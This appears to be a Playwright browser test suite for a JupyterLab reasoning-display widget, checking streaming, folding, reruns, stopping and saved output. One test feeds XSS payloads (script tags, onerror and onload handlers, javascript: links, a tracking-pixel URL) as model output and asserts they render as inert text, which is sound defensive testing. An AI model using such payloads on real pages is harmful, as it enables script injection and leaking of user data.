"""``%%think`` in a real JupyterLab, driven by headless Debian chromium through Playwright.

One Lab server and one wire server serve the whole session, one browser page each module
(``conftest.py``, which takes its helpers from here). Lab is driven through its command registry
(``window.jupyterapp.commands``, needs ``--LabApp.expose_app_in_browser``), never through key
presses; the widget itself is used as a person would: its dropdown, its Stop button, its
collapse header, its run selector.

Screenshots land in ``test-artifacts/browser/`` at the repo root (ignored by git).

Needs ``/usr/bin/chromium`` (``apt-get install -y chromium fonts-dejavu-core``); skipped without.
"""

from __future__ import annotations

import contextlib
import json
import os
import re
import shutil
import socket
import subprocess
import threading
import time
import urllib.request
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import nbformat
import pytest
import wire_fixtures as wf
from needs import requires
from playwright.sync_api import TimeoutError as PlaywrightTimeout
from playwright.sync_api import expect
from saved_size import code_colour_bytes
from test_pin_selection import DRAWN, DRAWN_STATIC
from test_pin_selection import REASONING as MARKDOWN_REASONING
from wire_server import Reply, WireServer

CHROMIUM = "/usr/bin/chromium"
CHROMIUM_ARGS = [
    "--headless",
    "--no-sandbox",
    "--disable-gpu",
    "--disable-quic",
    "--no-first-run",
    "--disable-background-networking",
    "--disable-component-update",
    "--disable-sync",
]
CHAT = "/v1/chat/completions"
ARTIFACTS = Path(__file__).resolve().parents[2] / "test-artifacts" / "browser"
NOTEBOOKS = Path(__file__).resolve().parents[2] / "notebooks"
KERNELSPEC = {"name": "python3", "display_name": "Python 3 (ipykernel)", "language": "python"}
LONG = 60_000  # ms: generous, for a loaded 2-core CI machine
CONTINUE = "button[title^='Ask again with this run']"
"""Continue (not Edit & continue, whose name holds the word too)."""

BROWSER = [
    pytest.mark.browser,
    requires(
        os.path.exists(CHROMIUM),
        f"{CHROMIUM} is missing (apt-get install -y chromium fonts-dejavu-core)",
    ),
]
pytestmark = BROWSER

REASONING = (
    "The question is about the colour of the daytime sky, so start with sunlight: it holds "
    "every visible wavelength, which is why the Sun looks white.\n\n"
    "Next, what happens in the air. Nitrogen and oxygen molecules are far smaller than the "
    "wavelength of light, so they scatter it by Rayleigh scattering, which goes as one over "
    "the wavelength to the fourth power.\n\n"
    "Blue light at 450 nm is therefore scattered about five times more than red at 700 nm. "
    "Violet is scattered even more, but the Sun emits less of it and our eyes are less "
    "sensitive to it.\n\n"
    "So the scattered light reaching us from every direction is mostly blue."
)
ANSWER = (
    "The sky is **blue** because air molecules scatter short wavelengths much more than long "
    "ones (*Rayleigh scattering*, ∝ 1/λ⁴).\n\n"
    "```python\n"
    "ratio = (700 / 450) ** 4  # red vs blue\n"
    "print(f'blue scatters {ratio:.1f}x more')\n"
    "```\n\n"
    "At sunset the light crosses more air, the blue is scattered away, and the sky turns red."
)

# -- in-page helpers: the widget's parts, found by their classes ----------------------------------
# A %%think cell has two outputs: the live widget (.reasoning-nb-live) and its static twin
# (.reasoning-nb-static, hidden while the widget shows a run's text). In the widget:
# .reasoning-nb-header (model, preset, Stop, .reasoning-nb-status), .reasoning-nb-runs (the run
# selector), then the shown run while it streams (or an earlier run picked): .reasoning-nb-pane
# (the reasoning, once it arrived) and .reasoning-nb-answer. An ended run on screen is shown by
# the twin: its details.reasoning-nb-reasoning and .reasoning-nb-answer (state() reads either).
LIVE = ".reasoning-nb-live"
HELPERS = r"""
window.__rn = {
  panel() { return window.jupyterapp.shell.currentWidget; },
  cellNode(i) { return this.panel().content.widgets[i].node; },
  parts(i) {
    const root = this.cellNode(i).querySelector('.jp-OutputArea .reasoning-nb-live');
    if (!root) return null;
    const q = (css) => root.querySelector(css);
    const header = q('.reasoning-nb-header'), status = q('.reasoning-nb-status');
    const selector = q('.reasoning-nb-runs');
    if (q('.reasoning-nb-text')) {  // the widget shows the run's text (live, or picked)
      const pane = q('.reasoning-nb-pane'), answer = q('.reasoning-nb-answer');
      const contents = pane ? pane.querySelector('.jupyter-widget-Collapse-contents') : null;
      const head = pane ? pane.querySelector('.jupyter-widget-Collapse-header') : null;
      const open = !!contents && !contents.classList.contains('lm-mod-hidden');
      return {root, header, status, selector, pane, answer, contents, head, open, at: root};
    }
    // ...else its static twin, the next output, does (its run's parts: not the earlier runs')
    const twin = root.closest('.jp-OutputArea-child').nextElementSibling
      ?.querySelector('.reasoning-nb-static>.reasoning-nb-export');
    const t = (css) => twin ? twin.querySelector(':scope>' + css) : null;
    const pane = t('details.reasoning-nb-reasoning'), answer = t('.reasoning-nb-answer');
    const contents = pane ? pane.querySelector(':scope>div') : null;
    const head = pane ? pane.querySelector(':scope>summary') : null;
    const open = !!pane && pane.open;
    return {root, header, status, selector, pane, answer, contents, head, open, at: twin, twin};
  },
  state(i) {
    const p = this.parts(i);
    if (!p) return null;
    return {
      status: p.status ? p.status.textContent : '',
      reasoning: p.contents ? p.contents.textContent.trim() : '',
      paneOpen: p.open,
      title: p.head ? p.head.textContent.trim() : null,
      answer: p.answer ? p.answer.textContent.trim() : '',
      runs: p.selector ? [...p.selector.querySelectorAll('button')].map(b => b.textContent) : [],
      math: p.at ? p.at.querySelectorAll('mjx-container').length : 0,
      twin: !!p.twin,
      running: !!p.selector && /running/.test(p.selector.textContent),
    };
  },
  // Record the widget state of cell i until `until` (a JS expression over the state `s`)
  // holds or `timeout` ms pass; resolves to the distinct states seen, in order. A
  // MutationObserver looks after every DOM change: each transient state, painted or not.
  record(i, timeout, until) {
    const done = new Function('s', 'return (' + until + ');');
    const t0 = performance.now();
    const seen = [];
    return new Promise(resolve => {
      let timer = null;
      const look = () => {
        const s = this.state(i);
        if (!s) return false;
        const key = JSON.stringify([s.reasoning, s.answer, s.paneOpen, s.status, s.math]);
        if (!seen.length || seen[seen.length - 1].key !== key)
          seen.push({t: Math.round(performance.now() - t0), key, ...s});
        return done(s);
      };
      let over = false;
      const finish = () => {
        if (over) return;
        over = true;
        observer.disconnect();
        clearTimeout(timer);
        resolve(seen.map(({key, ...rest}) => rest));
      };
      const observer = new MutationObserver(() => { if (look()) finish(); });
      observer.observe(this.cellNode(i),
                       {subtree: true, childList: true, characterData: true, attributes: true});
      timer = setTimeout(finish, timeout);
      if (look()) finish();
    });
  },
  // Record the widget state of cell i at every painted frame (requestAnimationFrame runs just
  // before the browser paints) until `until` has held for `after` ms or `timeout` ms pass.
  recordFrames(i, timeout, until, after = 0) {
    const done = new Function('s', 'return (' + until + ');');
    const t0 = performance.now();
    const seen = [];
    let doneAt = null;
    return new Promise(resolve => {
      const frame = () => {
        const s = this.state(i);
        const now = performance.now();
        if (s) {
          const key = JSON.stringify([s.reasoning, s.answer, s.paneOpen, s.status]);
          if (!seen.length || seen[seen.length - 1].key !== key)
            seen.push({t: Math.round(now - t0), key, ...s});
        }
        if (doneAt === null && s && done(s)) doneAt = now;
        if ((doneAt !== null && now - doneAt >= after) || now - t0 > timeout)
          resolve(seen.map(({key, ...rest}) => rest));
        else requestAnimationFrame(frame);
      };
      requestAnimationFrame(frame);
    });
  },
  cellDone(i) {  // the cell has its execution count and the kernel is idle
    const w = this.panel();
    const kernel = w.sessionContext.session && w.sessionContext.session.kernel;
    return w.content.widgets[i].model.executionCount !== null
      && !!kernel && kernel.status === 'idle';
  },
};
"""

# -- fixtures --------------------------------------------------------------------------------------


def _free_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return s.getsockname()[1]


class Lab:
    """The running Lab server: its URL, token, root dir, and a tiny REST client."""

    def __init__(self, base: str, token: str, root: Path) -> None:
        self.base, self.token, self.root = base, token, root

    def url(self, path: str = "lab") -> str:
        return f"{self.base}/{path}?token={self.token}"

    def api(self, method: str, path: str) -> Any:
        req = urllib.request.Request(
            f"{self.base}/api/{path}",
            method=method,
            headers={"Authorization": f"token {self.token}"},
        )
        with urllib.request.urlopen(req, timeout=30) as resp:
            body = resp.read()
        return json.loads(body) if body else None

    def shutdown_all_kernels(self) -> None:
        for session in self.api("GET", "sessions"):
            self.api("DELETE", f"sessions/{session['id']}")


@contextlib.contextmanager
def jupyter_server(cmd: list[str], env: dict, log_path: Path, server: Lab) -> Iterator[None]:
    """Run the Jupyter server ``cmd`` until its REST API (``server``) answers; stop it after."""
    log = log_path.open("w")
    proc = subprocess.Popen(cmd, env=env, stdout=log, stderr=subprocess.STDOUT)
    try:
        deadline = time.monotonic() + 60
        while True:
            try:
                server.api("GET", "status")
                break
            except OSError:
                if proc.poll() is not None or time.monotonic() > deadline:
                    raise RuntimeError(
                        f"{cmd[2]} did not start: {log_path.read_text()[-3000:]}"
                    ) from None
                time.sleep(0.1)
        yield
    finally:
        proc.terminate()  # the server shuts its kernels down on SIGTERM
        try:
            proc.wait(20)
        except subprocess.TimeoutExpired:
            proc.kill()
            proc.wait(5)
        log.close()


# -- driving Lab -----------------------------------------------------------------------------------


def wait_for_lab(page) -> None:
    page.wait_for_function(
        "() => window.jupyterapp && window.jupyterapp.shell && window.__rn"
        " && document.querySelector('#jp-main-dock-panel')"
    )
    page.evaluate("() => window.jupyterapp.restored")


def close_all(page) -> None:
    """Close every open document without a "save changes?" dialog."""
    page.evaluate(
        """async () => {
        const app = window.jupyterapp;
        for (const w of [...app.shell.widgets('main')]) {
          if (w.context && w.context.model) w.context.model.dirty = false;
          w.dispose();
        }
      }"""
    )


def write_notebook(lab: Lab, name: str, *sources: str) -> Path:
    nb = nbformat.v4.new_notebook()
    nb.metadata["kernelspec"] = KERNELSPEC
    nb.cells = [nbformat.v4.new_code_cell(s) for s in sources]
    path = lab.root / name
    nbformat.write(nb, path)
    return path


def think_notebook(lab: Lab, wire: WireServer, name: str, prompt="Why is the sky blue?") -> Path:
    return write_notebook(
        lab,
        name,
        "%load_ext reasoning_nb",
        f"%%think --model llamacpp:m --base-url {wire.url} --preset low\n{prompt}",
    )


def open_notebook(page, name: str) -> str:
    """Open ``name`` through the command registry, wait for its kernel; returns the panel id."""
    return page.evaluate(
        """async (path) => {
        const app = window.jupyterapp;
        const w = await app.commands.execute('docmanager:open', {path, factory: 'Notebook'});
        app.shell.activateById(w.id);
        await w.context.ready;
        await w.sessionContext.ready;
        return w.id;
      }""",
        name,
    )


def run_all(page) -> None:
    """Queue every cell; does not wait for the end (the stream is observed while it runs)."""
    page.evaluate(
        """async () => {
        const w = window.jupyterapp.shell.currentWidget;
        await w.sessionContext.ready;
        void window.jupyterapp.commands.execute('notebook:run-all-cells');
      }"""
    )


def wait_cell_done(page, index: int = 1, timeout: float = LONG) -> None:
    page.wait_for_function(f"() => window.__rn.cellDone({index})", timeout=timeout)


def state(page, index: int = 1) -> dict[str, Any] | None:
    return page.evaluate(f"() => window.__rn.state({index})")


TWO_RUNS = "s.runs.length === 2 && !s.running && s.twin"
"""A JS condition over the widget state: two runs, both ended, the second shown by its twin."""


def wait_state(page, condition: str, index: int = 1, timeout: float = LONG) -> dict[str, Any]:
    """Wait until ``condition`` (a JS expression over ``s``, the widget state) holds; returns the
    state read just after (a moment later: where a run ends, its status line says "done" a
    moment before the static output takes the live text's place, so a condition that wants the
    twin says so: ``s.twin``)."""
    try:
        page.wait_for_function(
            f"() => {{ const s = window.__rn.state({index}); return !!s && ({condition}); }}",
            timeout=timeout,
        )
    except PlaywrightTimeout:
        raise AssertionError(f"never {condition}; the widget: {state(page, index)}") from None
    return state(page, index)


def start_recording(page, index: int = 1, until="s.status.startsWith('done')") -> None:
    """Record the states of the widget in the page (see ``__rn.record``) until ``until``."""
    page.evaluate(
        "([i, until]) => { window.__seen = window.__rn.record(i, 45000, until); }",
        [index, until],
    )


def recorded(page) -> list[dict[str, Any]]:
    """The states seen since ``start_recording`` (waits for its condition)."""
    return page.evaluate("() => window.__seen")


def cell(page, index: int = 1):
    return page.locator(".jp-NotebookPanel:not(.lm-mod-hidden) .jp-Notebook .jp-Cell").nth(index)


def save(page) -> None:
    page.evaluate("() => window.jupyterapp.commands.execute('docmanager:save')")
    page.wait_for_function("() => !window.jupyterapp.shell.currentWidget.context.model.dirty")


def shot(page, name: str, target=None) -> Path:
    """A screenshot in test-artifacts/browser/ (the whole page, or just ``target``)."""
    path = ARTIFACTS / f"{name}.png"
    (target or page).screenshot(path=str(path))
    return path


def wait_until(check: Callable[[], Any], timeout: float = 30, what: str = "condition") -> Any:
    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline:
        if value := check():
            return value
        time.sleep(0.05)
    raise AssertionError(f"timed out after {timeout} s waiting for {what}")


def stream(reasoning: str, answer: str, **kw: Any) -> Reply:
    return Reply.sse(wf.chat_sse(reasoning, answer, usage=True), **kw)


def squash(text: str) -> str:
    return re.sub(r"\s+", " ", text).strip()


def as_text(markdown: str) -> str:
    """What markdown text reads as once rendered (enough for the fixtures here)."""
    return re.sub(r"\s+", " ", markdown.replace("**", "").replace("*", "")).strip()


# -- tests -----------------------------------------------------------------------------------------

SECONDS = r"(?:\d+\.\d|<0\.1) s"
SUMMARY = re.compile(rf"^Thought for {SECONDS} · ≈?[\d,]+ tokens$")
ENDED_SUMMARY = SUMMARY
"""The reasoning's title once its run ended (the static twin's): the same one label."""
DONE = re.compile(rf"^done · {SECONDS} · ≈?[\d,]+ tok/s$")


def live(page, index: int = 1):
    """The live widget of cell ``index`` (its static twin left out)."""
    return cell(page, index).locator(LIVE)


def ended(page, index: int = 1):
    """The run the static twin of cell ``index`` shows: where a run on screen shows once it
    ended (the widget keeps its header, run selector and steering)."""
    return cell(page, index).locator(".reasoning-nb-static > .reasoning-nb-export")


def static(page, index: int = 1):
    """The static twin of cell ``index``: shown where the widget cannot render."""
    return cell(page, index).locator(".reasoning-nb-static")


def looks(locator) -> dict[str, Any]:
    """A few computed styles of the first element ``locator`` matches."""
    return locator.first.evaluate(
        """(e) => { const c = getComputedStyle(e);
        let opacity = 1;  // (as it reads: its own and its ancestors')
        for (let n = e; n; n = n.parentElement) opacity *= +getComputedStyle(n).opacity;
        return {lineHeight: parseFloat(c.lineHeight), fontSize: parseFloat(c.fontSize),
                background: c.backgroundColor, color: c.color, opacity}; }"""
    )


def overflow(widget) -> list[str]:
    """Paragraphs of the widget that run past its right edge (text that does not wrap)."""
    return widget.evaluate(
        """(root) => { const edge = root.getBoundingClientRect().right + 1;
          return [...root.querySelectorAll('.jp-RenderedMarkdown p, .reasoning-nb-export p')]
            .filter((p) => p.getClientRects().length && p.getBoundingClientRect().right > edge)
            .map((p) => p.textContent.slice(0, 40)); }"""
    )


def pane_title(view):
    """What opens and closes the reasoning pane: the widget's title button while the run is
    live or picked, the twin's summary once it ended (``view``: ``ended(page)``)."""
    return view.locator(".reasoning-nb-pane-toggle, details.reasoning-nb-reasoning > summary").first


def disconnected_marks(page, index: int = 1) -> int:
    """How many red "disconnected" marks the widget of cell ``index`` shows."""
    return page.evaluate(
        """(i) => [...window.__rn.cellNode(i).querySelectorAll('.jupyter-widgets-disconnected')]
        .filter((e) => e.offsetParent !== null
                       && getComputedStyle(e, '::before').display !== 'none').length""",
        index,
    )


def test_live_stream_then_fold_and_expand(page, lab, wire):
    # ~200 frames, 20 ms apart: a 4-5 s stream a person can watch.
    wire.route("POST", CHAT, stream(REASONING, ANSWER, pause=0.02))
    think_notebook(lab, wire, "live.ipynb")
    open_notebook(page, "live.ipynb")
    start_recording(page)
    run_all(page)

    # Mid-reasoning: the pane is open and its text grows while the answer is still empty.
    wait_state(page, "s.paneOpen && s.reasoning.length > 300 && !s.answer")
    shot(page, "01-live-mid-reasoning")
    seen = recorded(page)
    thinking = [s for s in seen if s["reasoning"] and not s["answer"] and s["title"] == "Thinking…"]
    lengths = [len(s["reasoning"]) for s in thinking]
    assert len(set(lengths)) >= 5, f"the reasoning did not visibly grow: {lengths}"
    assert lengths[-1] > 3 * lengths[0], lengths
    assert all(s["paneOpen"] for s in thinking), "the pane was closed during the reasoning"
    # (the status line may lag the text by an update, never run ahead of it)
    before = {"connecting…", "loading", "waiting", "thinking…"}
    assert {s["status"].split(" ")[0] for s in thinking} <= before
    answering = [s for s in seen if s["answer"]]
    assert answering, "the answer never appeared"
    assert answering[0]["t"] > thinking[-1]["t"] - 50  # (one flush may reach the DOM in parts)
    assert not answering[-1]["paneOpen"], "the pane did not fold once the answer came"

    # Final: folded to a one-line summary, markdown answer rendered, kernel idle.
    wait_cell_done(page)
    final = state(page)
    assert ENDED_SUMMARY.match(final["title"]), final["title"]
    assert not final["paneOpen"] and final["twin"]  # the twin shows the run that ended
    assert DONE.match(final["status"]), final["status"]  # the pane's summary is not repeated
    assert as_text(REASONING) == as_text(final["reasoning"])
    widget, run = live(page), ended(page)
    answer = run.locator(".reasoning-nb-answer strong", has_text="blue")
    assert answer.is_visible()
    code = run.locator(".reasoning-nb-answer pre code", has_text="ratio = (700 / 450) ** 4")
    assert code.is_visible()
    assert run.locator(".reasoning-nb-answer em", has_text="Rayleigh scattering").is_visible()
    reasoning_text = run.get_by_text("Nitrogen and oxygen molecules")
    assert not reasoning_text.is_visible()  # folded
    assert not widget.locator(".reasoning-nb-text").count()  # the widget holds no text now
    for twice in (".reasoning-nb-meta", ".reasoning-nb-which"):  # (the widget says these)
        expect(run.locator(twice)).to_be_hidden()
    expect(widget.locator("button", has_text="Stop")).to_be_hidden()  # nothing runs
    # Readable: normal line height (ipywidgets sets 28 px), code on a tinted block.
    text = looks(run.locator(".reasoning-nb-answer p"))
    assert text["lineHeight"] < 1.7 * text["fontSize"], text
    box = looks(code.locator("xpath=.."))["background"]
    assert box not in ("rgba(0, 0, 0, 0)", "transparent", looks(run)["background"]), box
    shot(page, "02-final-folded", cell(page))

    # The one-line summary opens the pane again from the keyboard too (Tab reaches it); the
    # reasoning reads quieter.
    pane_title(run).focus()
    page.keyboard.press("Enter")
    reasoning_text.wait_for(state="visible")
    assert state(page)["paneOpen"]
    assert not overflow(run), "the reasoning runs past the pane's edge"
    quiet = looks(run.locator(".reasoning-nb-reasoning p"))
    loud = looks(run.locator(".reasoning-nb-answer p"))
    assert quiet["color"] != loud["color"] or quiet["opacity"] < loud["opacity"], quiet
    assert quiet["lineHeight"] < 1.7 * quiet["fontSize"], quiet
    shot(page, "03-expanded", cell(page))
    assert not page.errors, page.errors


def test_readme_picture(page, lab, wire):
    """The README's picture comes from the gallery: notebooks/gallery.ipynb run in Lab, each
    cell replaying a real provider's recorded stream through the package's HTTP path; the
    DeepSeek-R1 cell, its reasoning opened, in Light and Dark. Written to
    test-artifacts/browser/00-readme*.png; copy 00-readme.png to docs/widget.png when the look
    changes (it is not rewritten by every run: the timings differ)."""
    nb = nbformat.read(NOTEBOOKS / "gallery.ipynb", as_version=4)
    for c in nb.cells:
        if c.cell_type == "code":
            c.outputs, c.execution_count = [], None
    nb.metadata.pop("widgets", None)
    nbformat.write(nb, lab.root / "gallery.ipynb")
    shutil.copytree(NOTEBOOKS / "gallery", lab.root / "gallery", dirs_exist_ok=True)
    [index] = [i for i, c in enumerate(nb.cells) if c.source.startswith("%%think --model deep")]
    open_notebook(page, "gallery.ipynb")
    try:
        run_all(page)
        last = len(nb.cells) - 1
        wait_cell_done(page, last)
        for i, c in enumerate(nb.cells):
            if c.source.startswith("%%think"):
                # (settled: the twin in place of the live text, its head on screen)
                final = wait_state(page, "s.status.startsWith('done') && s.twin && !!s.title", i)
                assert final["title"].startswith("Thought for") and final["reasoning"], final
        run = ended(page, index)
        pane_title(run).click()
        page.evaluate("() => document.activeElement.blur()")  # no focus ring in the picture
        expect(run.get_by_text("The message is very brief")).to_be_visible()
        expect(run.locator(".reasoning-nb-answer", has_text="Hello there!")).to_be_visible()
        page.evaluate("() => { window.__rn.panel().content.activeCellIndex = 0; }")  # unselected
        expect(cell(page, index)).not_to_have_class(re.compile(r"\bjp-mod-active\b"))
        shot(page, "00-readme", cell(page, index))
        set_theme(page, "JupyterLab Dark")
        shot(page, "00-readme-dark", cell(page, index))
    finally:
        set_theme(page, "JupyterLab Light")
    assert not page.errors, page.errors


def test_live_text_grows_without_flashing(page, lab, wire):
    """Every frame painted is a prefix of the final text, and never shorter than the frame
    before: no paragraph flashes twice or disappears while the stream is live (a block freezes
    in place: the tail Output becomes it, then a fresh tail is appended), nor when the run ends
    and each text's Outputs are joined into one (frames are recorded for 2 s more); no frame
    says "done" over text still partial. Frames, not
    every DOM state: the front end replaces an Output's content by clearing it and rendering
    the new markdown, within one task (so no frame shows the cleared tail)."""
    words = "about light, air and the colour of the sky"
    reasoning = "\n\n".join(f"Reasoning step {i} {words}." for i in range(10))
    answer = "\n\n".join(f"Answer part {i} {words}." for i in range(6))
    wire.route("POST", CHAT, stream(reasoning, answer, pause=0.01))
    think_notebook(lab, wire, "flash.ipynb")
    open_notebook(page, "flash.ipynb")
    page.evaluate(
        "() => { window.__seen = window.__rn.recordFrames(1, 45000, "
        "\"s.status.startsWith('done')\", 2000); }"
    )
    run_all(page)
    seen = recorded(page)
    assert seen and seen[-1]["status"].startswith("done"), seen[-1:]
    problems = []
    for part in ("reasoning", "answer"):
        final, before = squash(seen[-1][part]), ""
        assert final == squash(reasoning if part == "reasoning" else answer)
        for s in seen:
            text = squash(s[part])
            if not final.startswith(text) or len(text) < len(before):
                problems.append(f"{part} at {s['t']} ms: {before[-60:]!r} -> {text[-120:]!r}")
            elif s["status"].startswith("done") and text != final:  # (said done too early)
                problems.append(f"{part} at {s['t']} ms: done over {text[-60:]!r}")
            before = text
    assert not problems, (
        "\n".join(problems)
        + "\n"
        + "\n".join(
            f"{s['t']} {s['twin']} {s['status'][:20]!r} {len(s['reasoning'])} {len(s['answer'])}"
            for s in seen[-8:]
        )
    )


def test_preset_dropdown_reruns_with_history(page, lab, wire):
    wire.route(
        "POST",
        CHAT,
        stream("A quick look: Rayleigh scattering.", "First answer: **scattering**.", pause=0.01),
        stream(
            "A longer look.\n\nShort wavelengths scatter more; the eye is less sensitive to "
            "violet.",
            "Second answer: **blue light scatters most**.",
            pause=0.02,
        ),
    )
    think_notebook(lab, wire, "rerun.ipynb")
    open_notebook(page, "rerun.ipynb")
    run_all(page)
    wait_cell_done(page)
    assert "First answer" in state(page)["answer"]

    select = live(page).locator(".reasoning-nb-header select")
    assert select.input_value() == "low"
    select.select_option("high")
    wait_until(lambda: len(wire.requests_to(CHAT)) == 2, what="the re-run request")
    final = wait_state(page, "s.answer.includes('Second answer') && s.status.startsWith('done')")
    assert [b.get("reasoning_effort") for b in wire.bodies(CHAT)] == ["low", "high"]
    assert len(final["runs"]) == 2, final["runs"]
    assert final["runs"][0].startswith("Run 1 · low · ")
    assert final["runs"][1].startswith("Run 2 · high · ")
    assert select.input_value() == "high"
    buttons = live(page).locator(".reasoning-nb-runs button")
    buttons.nth(1).wait_for(state="visible")
    shot(page, "04-rerun-history", cell(page))

    buttons.nth(0).click()
    first = wait_state(page, "s.answer.includes('First answer')")
    assert "Second answer" not in first["answer"]
    assert "quick look" in first["reasoning"]
    expect(select).to_have_value("low")  # the dropdown follows the run on screen...
    time.sleep(0.5)
    assert len(wire.requests_to(CHAT)) == 2  # ...without running it again
    shot(page, "05-rerun-picked-run-1", cell(page))
    assert not page.errors, page.errors


def test_stop_button_stops_a_stalled_stream(page, lab, wire):
    frames = wf.chat_sse("Thinking slowly about the sky " * 6, "never reached", done=False)
    wire.route("POST", CHAT, Reply.sse(frames, pause=0.02, stall_after=20, stall=60))
    think_notebook(lab, wire, "stop.ipynb")
    open_notebook(page, "stop.ipynb")
    run_all(page)

    wait_state(page, "s.reasoning.includes('Thinking slowly')")
    stop = live(page).locator(".reasoning-nb-header button", has_text="Stop")
    stop.wait_for(state="visible")
    assert stop.is_enabled()
    t0 = time.monotonic()
    stop.click()
    final = wait_state(page, "s.status.startsWith('stopped')", timeout=10_000)
    wait_cell_done(page, timeout=10_000)
    assert time.monotonic() - t0 < 8, "Stop took too long (the stall lasts 60 s)"
    assert "Thinking slowly" in final["reasoning"]
    assert not final["answer"]
    assert wire.requests_to(CHAT)[0].wait(5) in ("client_closed", "stopped")
    indicator = page.locator(
        ".jp-NotebookPanel:not(.lm-mod-hidden) .jp-Notebook-ExecutionIndicator"
    )
    expect(indicator).to_have_attribute("data-status", "idle", timeout=10_000)
    expect(stop).to_be_hidden()  # nothing runs any more
    shot(page, "06-stopped", cell(page))
    assert not page.errors, page.errors


def test_saved_notebook_reopens_readable(page, lab, wire):
    wire.route("POST", CHAT, stream(REASONING, ANSWER, pause=0.005))
    path = think_notebook(lab, wire, "saved.ipynb")
    open_notebook(page, "saved.ipynb")
    run_all(page)
    wait_cell_done(page)
    save(page)

    saved = nbformat.read(path, as_version=4)  # joins the multi-line strings of the JSON
    outputs = [o for o in saved.cells[1].outputs if "reasoning_nb" in o.get("metadata", {})]
    assert len(outputs) == 1, saved.cells[1].outputs
    trace = outputs[0]["metadata"]["reasoning_nb"]
    assert trace["status"] == "complete" and trace["answer"] == ANSWER
    assert trace["reasoning"] == REASONING
    assert "<details" in outputs[0]["data"]["text/html"]
    assert len(saved.cells[1].outputs) == 1, "the live view is saved"

    # The kernel goes away; the page is reloaded and the notebook reopened.
    close_all(page)
    lab.shutdown_all_kernels()
    assert lab.api("GET", "sessions") == []
    page.goto(lab.url("lab/tree/saved.ipynb"))
    wait_for_lab(page)
    page.wait_for_function(
        "() => { const w = window.jupyterapp.shell.currentWidget;"
        " return w && w.context && w.context.path === 'saved.ipynb'; }"
    )
    page.evaluate("() => window.jupyterapp.shell.currentWidget.context.ready")
    # No live view was saved (its widget would have no kernel behind it): no control that
    # needs a kernel shows. Its static twin shows whole.
    out = static(page)
    out.locator(".reasoning-nb-answer em", has_text="Rayleigh scattering").wait_for()
    expect(live(page)).to_have_count(0)
    expect(out.locator(".reasoning-nb-meta")).to_be_visible()  # done · time: the twin's own
    out.locator("details.reasoning-nb-reasoning > summary").click()
    out.get_by_text("Nitrogen and oxygen molecules").wait_for(state="visible")
    assert out.locator("pre code", has_text="ratio = (700 / 450) ** 4").is_visible()
    assert not overflow(out), "the reasoning runs past the pane's edge"
    assert disconnected_marks(page) == 0, "a 'disconnected' mark shows"
    shot(page, "07-reopened", cell(page))

    # An untrusted copy, executed headlessly: the static <details> output is what shows.
    from nbclient import NotebookClient

    nb = nbformat.read(path, as_version=4)
    for c in nb.cells:
        c.outputs, c.execution_count = [], None
    nb.metadata.pop("widgets", None)
    wire.route("POST", CHAT, stream(REASONING, ANSWER))
    NotebookClient(nb, timeout=60, kernel_name="python3", record_timing=False).execute()
    nbformat.write(nb, lab.root / "untrusted.ipynb")
    close_all(page)
    open_notebook(page, "untrusted.ipynb")
    out = static(page)
    summary = out.locator("details summary")
    summary.wait_for(state="visible")
    assert re.search(r"[\d,]+ tokens", summary.inner_text()), summary.inner_text()
    hidden = out.get_by_text("Nitrogen and oxygen molecules")
    assert not hidden.is_visible()
    summary.click()
    hidden.wait_for(state="visible")
    assert out.locator("strong", has_text="blue").first.is_visible()
    shot(page, "08-untrusted-static", cell(page))


WATCH_LIVE_NODES = """(i) => {
  // Every element that could run script or load something, added anywhere in the cell's
  // outputs while the stream lasts (the live tails included), and every such attribute.
  window.__bad = [];
  const risky = 'img, script, svg, iframe, object, embed, video, audio, link, style:not(:empty)'
    + ', a[href^="javascript:" i], [onerror], [onload], [onclick], [src]';
  const look = (node) => {
    if (node.nodeType !== 1) return;
    for (const e of [node, ...node.querySelectorAll('*')]) {
      if (e.matches(risky) && e.closest('.jp-OutputArea') && !e.closest('mjx-container')
          && !(e.tagName === 'svg' && e.closest('[data-icon]'))  // (Lab's own icons)
          && !(e.tagName === 'STYLE' && e.closest('.reasoning-nb-header, .reasoning-nb-static')))
        window.__bad.push(e.outerHTML.slice(0, 120));
    }
  };
  new MutationObserver((records) => records.forEach((r) => r.addedNodes.forEach(look)))
    .observe(window.__rn.cellNode(i), {subtree: true, childList: true});
}"""


def test_model_output_cannot_run_script(page, lab, wire):
    """The live view's Outputs render their markdown as trusted: every payload arrives as text,
    while it streams and after; no image loads (the wire server sees no request for one)."""
    pixel = f"{wire.url}/pixel.png?q=SECRET"
    evil = (
        "<script>window.__pwned=1</script> and "
        '<img src=x onerror="window.__pwned=2"> and '
        "[click](javascript:window.__pwned=3) and "
        f"![pixel]({pixel}) and "
        '$<img src=x onerror="window.__pwned=4">$ and '
        '<svg onload="window.__pwned=5"></svg> <a href="javascript:window.__pwned=6">a</a>'
    )
    listed = '1. Run:\n   ```html\n   <img src=x onerror="window.__pwned=7">\n   ```\n2. Done.'
    wire.route(
        "POST",
        CHAT,
        stream(f"Reasoning with {evil}\n\nmore.", f"Answer with {evil}\n\n{listed}", pause=0.005),
    )
    think_notebook(lab, wire, "evil.ipynb")
    open_notebook(page, "evil.ipynb")
    page.wait_for_function("() => window.__rn.cellNode(1)")
    page.evaluate(WATCH_LIVE_NODES, 1)
    run_all(page)
    wait_cell_done(page)
    final = wait_state(page, "s.status.startsWith('done')")
    out = cell(page).locator(".jp-OutputArea")  # both outputs: the widget and its twin
    pane_title(ended(page)).click()  # the reasoning visibly too
    ended(page).get_by_text("Reasoning with").wait_for(state="visible")

    assert page.evaluate("() => window.__pwned") is None
    assert page.evaluate("() => window.__bad") == []  # not even for a moment, live
    assert out.locator("img").count() == 0
    assert out.locator('a[href^="javascript:"]').count() == 0
    assert out.locator("script").count() == 0
    assert wire.requests_to("/pixel.png") == []  # nothing loaded by itself
    for text in (final["reasoning"], final["answer"]):
        assert "<script>window.__pwned=1</script>" in text
        assert '<img src=x onerror="window.__pwned=2">' in text
        assert "javascript:window.__pwned=3" in text
        assert '<svg onload="window.__pwned=5">' in text
    assert ended(page).get_by_role("link", name="image: pixel").count() == 2  # a link instead
    assert '<img src=x onerror="window.__pwned=7">' in final["answer"]  # the code, as code
    shot(page, "09-untrusted-model-output", cell(page))
    assert page.evaluate("() => window.__pwned") is None
    assert not page.errors, page.errors


def test_reopened_in_default_lab_shows_static_output(page, lab, wire):
    """A notebook saved by a Lab with the default ``saveState: false`` is trusted but has no
